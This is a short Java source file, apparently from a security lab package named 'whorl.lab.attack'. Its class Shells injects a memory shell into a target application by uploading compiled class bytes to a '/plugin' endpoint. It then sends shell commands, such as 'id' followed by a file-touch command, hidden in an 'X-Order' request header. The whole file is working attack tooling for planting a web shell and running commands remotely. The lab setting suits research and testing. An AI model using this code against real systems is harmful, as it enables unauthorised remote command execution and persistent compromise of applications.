package whorl.lab.attack;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.util.Arrays;

/** Injects a memory shell into the application and uses it. */
public final class Shells {
  private Shells() {}

  /** Sends the classes to the application's upload of plug-ins. */
  public static void inject(Class<?>... classes) throws Exception {
    inject(Arrays.stream(classes).map(Class::getName).toArray(String[]::new));
  }

  /** The same for classes that cannot be loaded here, because of their package. */
  public static void inject(String... classes) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    for (String name : classes) {
      byte[] file = Attacker.classBytes(name);
      out.writeInt(file.length);
      out.write(file);
    }
    Attacker.post("/plugin", bytes.toByteArray());
  }

  /** Asks the shell for a command by a header of an ordinary request. */
  public static void use(String path) throws Exception {
    Attacker.get(path, "X-Order", "id; " + Attacker.touch());
  }
}
